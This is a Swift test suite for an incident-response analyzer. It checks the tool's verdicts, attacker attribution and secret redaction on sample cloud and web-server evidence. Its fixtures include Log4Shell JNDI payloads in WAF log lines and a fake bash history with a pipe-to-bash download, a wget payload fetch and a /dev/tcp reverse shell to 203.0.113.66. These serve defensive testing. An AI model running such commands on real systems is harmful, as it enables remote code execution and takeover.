import Bytes
import Foundation
import TestSupport
import Testing

/// Whole cases of other kinds than the shipped one: what a responder reads first must be true of each.
struct ScenarioTests {
  private let folder: TemporaryFolder

  init() throws { folder = try TemporaryFolder() }

  private struct Told {
    var verdict: [String]
    var steps: [String: String]
    var response: [String]
    var attackers: [String]
    var text: String
  }

  /// Runs the program on what the test has put into `in`.
  private func run() throws -> Told {
    let out = folder.path + "/out"
    let result = try runProgram(
      irAnalyze, ["run", folder.path + "/in", "-o", out, "--store", folder.path + "/store", "--case", "x", "-q"])
    #expect(result.status == 0 || result.status == 2, "\(result.errors)")
    let text = try String(contentsOfFile: out + "/incident.json", encoding: .utf8)
    let object = try #require(JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
    let steps = object["steps"] as? [[String: Any]] ?? []
    return Told(
      verdict: object["verdict"] as? [String] ?? [],
      steps: Dictionary(
        steps.map { ($0["stage"] as? String ?? "", $0["status"] as? String ?? "") },
        uniquingKeysWith: { first, _ in first }),
      response: (object["response"] as? [[String: Any]] ?? []).flatMap {
        ($0["commands"] as? [[String: Any]] ?? []).compactMap { $0["command"] as? String }
      },
      attackers: object["attackers"] as? [String] ?? [], text: text)
  }

  /// Copies files of the shipped bundle whose path holds one of these texts.
  private func copy(_ parts: String...) throws {
    for name in try FileManager.default.subpathsOfDirectory(atPath: PackageFiles.bundle)
    where parts.contains(where: { name.contains($0) }) {
      var isFolder: ObjCBool = false
      let from = "\(PackageFiles.bundle)/\(name)"
      guard FileManager.default.fileExists(atPath: from, isDirectory: &isFolder), !isFolder.boolValue else { continue }
      try folder.write("in/\(name)", [UInt8](Data(contentsOf: URL(fileURLWithPath: from))))
    }
  }

  @Test func stolenCredentialsAreToldFromGuardDutyAndCloudTrailAlone() throws {
    try copy("guardduty/", "cloudtrail/")
    let told = try run()
    #expect(told.verdict.first?.contains("role cumulus-was-role (i-0b7c4e19d2f35a86e)") == true, "\(told.verdict)")
    #expect(told.verdict.first?.contains("203.0.113.66") == true)
    #expect(told.verdict.count == 3 && !told.verdict.contains { $0.contains("?") })
    #expect(told.attackers == ["203.0.113.66"])
    #expect(told.steps["cloud-access"] == "observed" && told.steps["credential-access"] == "inferred")
    #expect(told.text.contains(#""access_key":"ASIA3XFRBF53EXAMPLE7""#))
    #expect(told.text.contains(#""address":"192.0.2.10","elsewhere":false"#))
    #expect(told.response.contains { $0.contains("put-role-policy --role-name cumulus-was-role") })
    #expect(told.response.contains { $0.contains("modify-instance-metadata-options") })
  }

  @Test func aCleanServerIsQuietAndNothingIsAskedFor() throws {
    try copy(
      "waf/aws-waf-logs-cumulus/2026/11/25/00", "command/date.txt", "command/df_mount_output.txt",
      "command/free_output.txt")
    let told = try run()
    #expect(told.verdict.first?.hasPrefix("Nothing of medium severity or above was found") == true, "\(told.verdict)")
    #expect(told.verdict.count == 3 && told.response.isEmpty && told.attackers.isEmpty && told.steps.isEmpty)
  }

  @Test func aScannerThatWasBlockedIsAnAttemptAndNoMore() throws {
    var lines = ""
    for (number, text) in ["${jndi:ldap://203.0.113.99:1389/a}", "${${lower:j}ndi:ldap://203.0.113.99/b}"].enumerated()
    {
      lines +=
        #"{"timestamp":\#(1_795_584_000_000 + number * 1000),"formatVersion":1,"webaclId":"arn:aws:wafv2:x","terminatingRuleId":"Log4J","terminatingRuleType":"MANAGED_RULE_GROUP","action":"BLOCK","httpSourceName":"ALB","httpSourceId":"x","httpRequest":{"clientIp":"198.51.100.23","country":"US","headers":[{"name":"Host","value":"shop.example"},{"name":"User-Agent","value":"\#(text)"}],"uri":"/","args":"","httpVersion":"HTTP/1.1","httpMethod":"GET","requestId":"1-65-\#(number)"}}"#
        + "\n"
    }
    try folder.write("in/waf/aws-waf-logs-x/2026/11/25/05/log.json", lines)
    try copy("waf/aws-waf-logs-cumulus/2026/11/25/00")
    let told = try run()
    #expect(told.verdict.first?.contains("was attacked") == true, "\(told.verdict)")
    #expect(told.verdict.first?.contains("nothing in this evidence shows that the attack succeeded") == true)
    #expect(told.steps["exploitation"] == "observed")
    #expect(told.steps["callback"] != "observed" && told.steps["remote-control"] != "observed")
    #expect(told.response.isEmpty)
  }

  @Test func theShippedIncidentIsToldInThreePlainSentences() throws {
    try copy("command/", "waf/aws-waf-logs-cumulus/2026/11/25/05", "guardduty/", "cloudtrail/", "vpcflow/", "disk/")
    let told = try run()
    #expect(told.verdict.count == 3 && !told.verdict.contains { $0.contains("?") }, "\(told.verdict)")
    #expect(told.verdict.first?.contains("203.0.113.66:1389") == true)
    // What the administrator, the collector, the database and the load balancer did is no part of it.
    for benign in ["10.0.1.50", "10.0.3.30", "198.51.100.10", "ELB-HealthChecker", "hsperfdata"] {
      let story =
        told.text.components(separatedBy: "\"steps\":").last?.components(separatedBy: "\"response\":").first ?? ""
      #expect(!story.contains(benign), "\(benign)")
    }
  }

  /// Secrets of every kind, in files of every kind, must be in no output.
  @Test func noSecretOfTheEvidenceIsInAnyOutput() throws {
    let secrets = [
      "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY99", "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
      "$6$rounds=5000$saltsalt$hT0FzQmGd8TzWm1vJg3rj8gFJ9Yx1f5mZb7d1JtB0oQ3nq7mXlW0bYk2c", "hunter2secretpass",
      "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    ]
    try folder.write(
      "in/home/admin/.bash_history",
      """
      export AWS_SECRET_ACCESS_KEY=\(secrets[0])
      git clone https://\(secrets[1])@github.com/x/y
      echo '\(secrets[2])' >> /tmp/.shadow; curl http://203.0.113.66/x | bash
      mysql://app:\(secrets[3])@10.0.3.30/shop; wget http://203.0.113.66:8000/a -O /tmp/.x; bash -i >& /dev/tcp/203.0.113.66/4444 0>&1
      curl -H 'Authorization: Bearer \(secrets[4])' https://api.example

      """)
    try folder.write("in/etc/shadow", "root:\(secrets[2]):20778:0:99999:7:::\n")
    _ = try run()
    let out = folder.path + "/out"
    _ = try runProgram(irAnalyze, ["timeline", out, "--limit", "1", "-q"])
    for name in try FileManager.default.subpathsOfDirectory(atPath: out) {
      guard let data = FileManager.default.contents(atPath: "\(out)/\(name)") else { continue }
      let text = String(decoding: data, as: UTF8.self).lowercased()
      for secret in secrets { #expect(!text.contains(secret.lowercased()), "\(secret.prefix(12)) is in \(name)") }
    }
    let exposures = try String(contentsOfFile: out + "/incident.json", encoding: .utf8)
    for kind in ["aws-secret-key", "access-token", "password-hash", "url-password", "web-token"] {
      #expect(exposures.contains("\"kind\":\"\(kind)\""), "\(kind)")
    }
  }
}
